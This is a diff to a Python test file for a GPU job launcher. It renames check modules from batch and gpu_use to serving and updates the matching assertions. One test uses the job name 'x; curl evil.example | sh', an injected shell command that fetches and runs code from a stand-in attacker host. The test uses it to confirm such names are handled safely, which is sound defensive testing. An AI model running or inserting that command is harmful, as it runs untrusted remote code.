@@ -9,7 +9,7 @@ from typing import Any
 
 import pytest
 
-from launcher.checks import batch, gpu_use
+from launcher.checks import serving
 from launcher.checks.ray import read_payload
 from launcher.discovery import local_assets
 from launcher.errors import UnreadableAnswer
@@ -99,12 +99,12 @@ def test_figures_that_are_none() -> None:
     assert counters.number("inf", int) is None
     assert counters.number("nan", float) is None
     assert (
-        gpu_use.busy_gpus(
+        serving.busy_gpus(
             {"groups": rows({"state": "CREATED", "bundles": 5}), "actors": rows({"state": "ALIVE"})}
         )
         == 0
     )
-    assert batch.claimed({"metadata": {job_store.GPUS: "inf"}}) == 0
+    assert serving.claimed({"metadata": {job_store.GPUS: "inf"}}) == 0
 
 
 def test_a_name_that_is_a_command() -> None:
@@ -112,7 +112,7 @@ def test_a_name_that_is_a_command() -> None:
     job = seeds.job("batch-1", {job_store.NAME: "x; curl evil.example | sh", job_store.GPUS: "1"})
     row = {**kept.one(kept.wanted()), "name": "x; curl evil.example | sh"}
     assert running.holders(kept.said(row)) == []
-    assert batch.holders({"jobs": [job]}) == []
+    assert serving.job_holders({"jobs": [job]}) == []
     assert running.batches({"jobs": [job]}) == []
 
 
